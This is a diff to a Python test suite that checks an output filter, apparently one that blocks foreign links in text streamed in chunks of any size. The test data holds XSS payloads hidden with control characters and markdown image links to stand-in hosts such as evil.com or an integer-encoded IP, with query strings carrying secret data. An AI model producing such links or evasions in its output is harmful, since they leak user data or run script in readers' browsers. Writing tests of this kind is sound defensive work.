@@ -48,7 +48,7 @@ WHOLE = [
     "![i](/l.png)",
     "<https://northwind.example/>",
 ]
-HIDDEN = ["\u200b", "\u202e", "\x00", "\xa0", "\u3002", "\u00e9", "a", "x y"]
+HIDDEN = ["\u200b", "\u202e", "\x00", "\x0c", "\x0b", "\r", "\xa0", "\u3002", "\u00e9", "a", "x y"]
 NASTY = st.lists(st.sampled_from([*MARKUP, *ADDRESSES, *HTML, *WHOLE, *HIDDEN]), max_size=14).map("".join)
 
 FOUND_OUTSIDE = [
@@ -68,7 +68,29 @@ FOUND_OUTSIDE = [
     "![a][b]\n\n> [b]: javascript:alert(1)",
     "```\n<n onclick=alert(1) x>\n```",
     "`<n` <b onclick=alert(1)>",
+    "```\nx\n\n```\n> ![a](\n> //16843009/x?d=S)",
+    "- x\n\n    > ![a](\n    > //16843009/x?d=S)",
+    "> [a]:\n> //16843009/x?d=S\n\n![a]",
+    "> - ![a](\n> //16843009/x?d=S)",
 ]
+FOUND_IN_STREAMS = [
+    *FOUND_OUTSIDE,
+    "<\x0cimg src=x onerror=alert(1)>",
+    "hi <\x0cscript>alert(1)<\x0c/script>",
+    "see http:/\x0c/evil.com/x?d=SECRET ok",
+    "![a]\x0c(//16843009/x?d=S)",
+    "w" + "\u200b" * 140 + "ww.secret.evil.cc ok",
+    "> ![a](\n> " + " " * 2_100 + "//16843009/x) ok",
+    "secretdata.evil.cc",
+]
+
+
+@pytest.mark.parametrize("size", [1, 3, 10_000])
+@pytest.mark.parametrize("text", FOUND_IN_STREAMS)
+def test_no_page_that_shows_a_stream_leads_elsewhere_however_it_is_cut(text: str, size: int) -> None:
+    outgoing = Outgoing(LINKS, {"foreign-link": "block"})
+    said = "".join(outgoing.feed(text[at : at + size]) for at in range(0, len(text), size)) + outgoing.end()
+    assert harms(said) == []
 
 
 @pytest.mark.parametrize("text", FOUND_OUTSIDE)
